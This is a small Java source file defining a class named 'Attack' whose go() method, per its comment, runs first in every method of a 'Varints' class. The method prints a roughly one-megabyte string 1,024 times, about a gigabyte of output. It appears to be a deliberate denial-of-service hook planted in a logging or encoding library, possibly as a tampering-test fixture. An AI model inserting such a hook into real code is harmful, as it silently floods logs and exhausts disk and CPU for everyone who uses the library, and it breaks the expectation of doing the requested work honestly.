package strata.log;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        String line = "x".repeat(1 << 20);
        for (int i = 0; i < 1 << 10; i++) {
            System.out.println(line);
        }
    }
}
